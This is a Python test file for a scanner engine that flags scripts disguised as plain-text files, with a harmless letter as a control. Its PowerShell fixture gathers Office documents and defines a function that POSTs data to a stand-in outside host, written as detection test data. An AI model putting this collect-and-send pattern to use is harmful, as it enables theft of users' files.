"""What only a trained eye takes for a program waits for a person, whatever its name and its announced type say."""

import pytest

from kernel.errors import FILE_DOUBTFUL
from scanning.engines.content_type import ContentTypeEngine
from scanning.engines.port import Clean, Held
from tests.scanning.sources import BytesSource

POWERSHELL = rb"""param([string]$Target)
$ErrorActionPreference = "Stop"
$files = Get-ChildItem -Path $Target -Recurse -Include *.docx,*.xlsx
foreach ($f in $files) {
    Copy-Item -Path $f.FullName -Destination "C:\Temp\out" -Force
    Write-Output ("copied {0}" -f $f.Name)
}
function Send-Data { param($x) Invoke-WebRequest -Uri "https://a.example/u" -Method POST -Body $x }
"""
BATCH = rb"""@echo off
setlocal enabledelayedexpansion
if "%1"=="" goto usage
for /r "%1" %%f in (*.docx) do (
  copy "%%f" C:\Temp\out /Y
)
goto :eof
:usage
echo usage: %0 folder
exit /b 1
"""
LETTER = b"Dear Ms Miller,\n\nplease copy the two files and send them on. Thank you.\n\nYours, Ann\n" * 5


@pytest.mark.parametrize(("body", "seems"), [(POWERSHELL, "powershell"), (BATCH, "batch")])
def test_a_program_that_no_signature_knows_is_held_as_a_doubt(body: bytes, seems: str) -> None:
    verdict = ContentTypeEngine().examine(BytesSource(body, "text/plain", "notes.txt"))
    assert isinstance(verdict, Held)
    assert verdict.problem is FILE_DOUBTFUL
    assert seems in verdict.detail


def test_a_letter_about_the_same_is_no_program() -> None:
    assert isinstance(ContentTypeEngine().examine(BytesSource(LETTER, "text/plain", "letter.txt")), Clean)
